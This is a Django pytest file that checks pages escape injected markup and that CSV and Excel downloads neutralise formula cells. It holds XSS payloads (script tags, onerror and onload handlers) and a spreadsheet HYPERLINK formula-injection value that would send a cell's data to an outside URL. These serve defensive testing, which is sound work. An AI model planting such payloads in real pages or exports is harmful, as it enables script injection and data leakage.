# SPDX-License-Identifier: AGPL-3.0-or-later
"""What people write stays words: on every page, in every file."""

import csv
import io
import zipfile

import pytest
from django.test import Client
from django.urls import reverse

from selaras.web.organisasi.roles import Peran
from selaras.web.organisasi.tabel import plain
from tests.web.halaman import pages
from tests.web.keamanan.coretan import scribble
from tests.web.unduhan import received

MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>'\"><svg/onload=alert(3)>{{ 7 }}{% now %}"
NASTY = ("<script>alert(1)", "<img src=x", "<svg/onload")
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"klik")'


def opened(name, wilayah, text):
    """The answer to one who may, when every word is that text."""
    page = pages()[name]
    arguments = page.make(wilayah)
    scribble(text)
    orang = wilayah.orang[min(page.roles & set(wilayah.orang), default=Peran.BAPPEDA.value)]
    client = Client()
    client.force_login(orang, backend="allauth.account.auth_backends.AuthenticationBackend")
    return client.get(reverse(name, args=arguments), dict(page.data))


SHOWN = sorted(n for n, page in pages().items() if page.method == "get" and page.roles)
FILES = sorted(
    n for n, page in pages().items() if n.endswith("_unduh") and n != "keluaran_unduh"
)  # that is a file as the worker wrote it


@pytest.mark.parametrize("name", SHOWN)
def test_markup_in_every_word_is_shown_as_words(name, sagara):
    response = opened(name, sagara, MARKUP)

    if response.streaming:
        received(response)
    elif response.headers["Content-Type"].startswith("text/html"):
        html = response.content.decode()
        assert [one for one in NASTY if one in html] == []


@pytest.mark.parametrize("name", FILES)
@pytest.mark.parametrize("text", [FORMULA, "@SUM(1)", "+1", "-1", "\t=1", "\r=1", "\n=1", "＝1"])
def test_no_cell_of_a_list_is_a_formula(name, sagara, text):
    response = opened(name, sagara, text)
    data = received(response)

    if response["Content-Type"].startswith("text/csv"):
        cells = [
            cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row
        ]
        assert [cell for cell in cells if cell != plain(cell) and not cell.lstrip("-").isdecimal()] == []
    else:
        with zipfile.ZipFile(io.BytesIO(data)) as book:
            sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert [one for one in sheets if "<f>" in one or "<hyperlink" in one] == []


def test_a_scribble_reaches_many_rows(sagara):
    assert scribble(MARKUP) > 30
    sagara.pd.refresh_from_db()
    assert sagara.pd.nama == f"{MARKUP}{sagara.pd.pk}"
